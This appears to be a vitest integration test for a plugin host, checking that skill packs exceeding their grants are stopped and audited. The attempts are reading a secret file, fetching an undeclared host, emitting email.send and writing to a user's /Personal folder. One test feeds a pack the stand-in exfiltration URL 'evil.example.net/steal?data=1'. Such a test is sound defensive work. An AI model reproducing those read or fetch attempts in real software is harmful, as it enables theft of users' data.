/**
 * Skill packs that try more than their grant, installed as an admin installs them (from their
 * folders, through POST /api/packs with consent, for everyone) on `vextir start` run as a child
 * process, and triggered by a user's events: each attempt (a file outside the grant, an
 * undeclared host, an undeclared event type, an ungranted context path) is stopped and is in the
 * user's audit trail, the records say why, and what each pack may do still works.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { startHostProcessSystem, type HostProcessSystem } from '../helpers/host-process-system.js';
import { addPackWithConsent, auditOf, type AuditEntry } from '../helpers/pack-install.js';
import type { RecordBody } from '../helpers/system-client.js';

const FIXTURES = resolve('test/fixtures/packs');
const USER = 'una';

let system: HostProcessSystem;
let api: Server;
const apiCalls: Array<{ url: string; headers: IncomingHttpHeaders }> = [];
let secretDir: string;

beforeAll(async () => {
  // Stands in for api.example.com, the one host bad-fetch declares (pinned by the operator's setting).
  api = createServer((request, response) => {
    apiCalls.push({ url: request.url ?? '', headers: request.headers });
    response.writeHead(200, { 'content-type': 'text/plain' }).end('hello');
  });
  await new Promise<void>((done) => api.listen(0, '127.0.0.1', done));
  const port = (api.address() as { port: number }).port;
  secretDir = mkdtempSync(join(tmpdir(), 'vextir-secret-'));
  writeFileSync(join(secretDir, 'secret.txt'), 'the host user\'s secret');
  system = await startHostProcessSystem({ VEXTIR_PACK_HOST_MAP: `api.example.com=http://127.0.0.1:${port}` });
  for (const pack of ['bad-file', 'bad-fetch', 'bad-emit', 'bad-context']) {
    await addPackWithConsent(system, 'ada', { source: join(FIXTURES, pack), global: true }, { admin: true });
  }
}, 120_000);
afterAll(async () => {
  await system?.stop();
  await new Promise((done) => api?.close(done));
  rmSync(secretDir, { recursive: true, force: true });
});

async function run(type: string, data: unknown): Promise<{ record: RecordBody; children: RecordBody[] }> {
  const record = await system.settled(USER, await system.emit(USER, type, data), (each) => each.status !== 'accepted' && each.drivers.every((driver) => driver.status !== 'pending'));
  const children = await Promise.all(record.children.map((id) => system.settled(USER, id)));
  return { record, children };
}

async function audited(predicate: (entry: AuditEntry) => boolean): Promise<AuditEntry> {
  for (let i = 0; i < 200; i += 1) {
    const entry = (await auditOf(system, USER)).find(predicate);
    if (entry) return entry;
    await new Promise((done) => setTimeout(done, 25));
  }
  throw new Error('no such audit entry');
}

/** What the driver returned after the refusal never went out: the kernel's `error` answer, saying why, is all. */
function assertOnlyTheError(children: RecordBody[], why: RegExp): void {
  assert.deepEqual(children.map((child) => child.type), ['error'], 'nothing the driver returned after the refusal went out');
  const data = children[0]!.event.data as { code: string; message: string };
  assert.equal(data.code, 'forbidden');
  assert.match(data.message, why);
}

describe('a pack beyond its grant, on the embedded host', () => {
  it('bad-file: reads its own folder; a file outside its grant is refused and audited as pack.fs.read', async () => {
    const own = join(realpathSync(join(system.dataDir, 'packs')), 'bad-file', '1.0.0', 'driver.js');
    const allowed = await run('bad-file.go', { path: own });
    assert.deepEqual(allowed.children.map((child) => [child.type, child.event.data]), [['bad-file.done', { read: readFileSync(own, 'utf8').length }]]);

    const secret = join(secretDir, 'secret.txt');
    const { record, children } = await run('bad-file.go', { path: secret });
    const driverRun = record.drivers.find((each) => each.driver === 'bad-file');
    assert.equal(driverRun?.status, 'failed', JSON.stringify(record.drivers));
    assert.equal(driverRun?.error?.code, 'forbidden');
    assert.match(driverRun?.error?.message ?? '', /pack bad-file \(driver bad-file\) was stopped: it read .*secret\.txt, outside the files its grant allows/);
    assertOnlyTheError(children, /it read .*secret\.txt/);
    const entry = await audited((each) => each.action === 'pack.fs.read');
    assert.equal(entry.kind, 'access');
    assert.match(entry.target ?? '', /^bad-file\/bad-file: .*secret\.txt$/);
    assert.equal(entry.eventId, record.id);
  });

  it('bad-fetch: fetches its declared host; an undeclared host is refused before any connection and audited as pack.fetch', async () => {
    const allowed = await run('bad-fetch.go', { url: 'http://api.example.com/hello' });
    assert.deepEqual(allowed.children.map((child) => [child.type, child.event.data]), [['bad-fetch.done', { status: 200 }]]);
    assert.deepEqual(apiCalls.map((call) => [call.url, call.headers.host]), [['/hello', 'api.example.com']], 'reached through the operator\'s pin, asking for the declared host');

    const { record, children } = await run('bad-fetch.go', { url: 'http://evil.example.net/steal?data=1' });
    const driverRun = record.drivers.find((each) => each.driver === 'bad-fetch');
    assert.equal(driverRun?.error?.code, 'forbidden', JSON.stringify(record.drivers));
    assert.match(driverRun?.error?.message ?? '', /it fetched evil\.example\.net(:80)?, a host its grant does not allow/);
    assertOnlyTheError(children, /it fetched evil\.example\.net/);
    assert.equal(apiCalls.length, 1, 'the pin is applied to the declared host only');
    const entry = await audited((each) => each.action === 'pack.fetch');
    assert.equal(entry.kind, 'access');
    assert.match(entry.target ?? '', /^bad-fetch\/bad-fetch: evil\.example\.net/);
  });

  it('bad-emit: its declared event goes through; the undeclared email.send is denied by pack:bad-emit and audited', async () => {
    const { record, children } = await run('bad-emit.go', {});
    assert.equal(record.drivers.find((each) => each.driver === 'bad-emit')?.status, 'succeeded', JSON.stringify(record.drivers));
    const done = children.find((child) => child.type === 'bad-emit.done');
    assert.equal(done?.decision?.allowed, true);
    const sent = children.find((child) => child.type === 'email.send');
    assert.equal(sent?.status, 'denied', JSON.stringify(sent));
    assert.equal(sent?.decision?.allowed, false);
    assert.equal(sent?.decision?.['decidedBy'], 'pack:bad-emit');
    assert.match(sent?.decision?.reason ?? '', /it emitted email\.send, which is not among the event types it may emit \(bad-emit\.done\)/);
    const entry = await audited((each) => each.eventId === sent?.id && each.decision?.allowed === false);
    assert.match(entry.decision?.reason ?? '', /pack:bad-emit/);
  });

  it('bad-context: writes under its granted folder; /Personal is denied by pack:bad-context and the user\'s document stays', async () => {
    const mine = await system.request(USER, 'PUT', '/api/context/Personal/diary', { body: 'mine', headers: { 'content-type': 'text/plain' } });
    assert.ok([200, 201].includes(mine.status), String(mine.status));
    const { children } = await run('bad-context.go', {});
    const ok = children.find((child) => (child.event.data as { path: string }).path === '/BadContext/ok');
    const diary = children.find((child) => (child.event.data as { path: string }).path === '/Personal/diary');
    assert.equal(ok?.decision?.allowed, true, JSON.stringify(ok));
    assert.equal(diary?.status, 'denied', JSON.stringify(diary));
    assert.equal(diary?.decision?.['decidedBy'], 'pack:bad-context');
    assert.match(diary?.decision?.reason ?? '', /\/Personal\/diary/);
    for (let i = 0; i < 200 && (await system.request(USER, 'GET', '/api/context/BadContext/ok')).status !== 200; i += 1) await new Promise((done) => setTimeout(done, 25));
    assert.equal((await system.request(USER, 'GET', '/api/context/BadContext/ok')).status, 200);
    assert.equal(await (await system.request(USER, 'GET', '/api/context/Personal/diary')).text(), 'mine');
    const entry = await audited((each) => each.eventId === diary?.id && each.decision?.allowed === false);
    assert.match(entry.decision?.reason ?? '', /pack:bad-context/);
  });
});
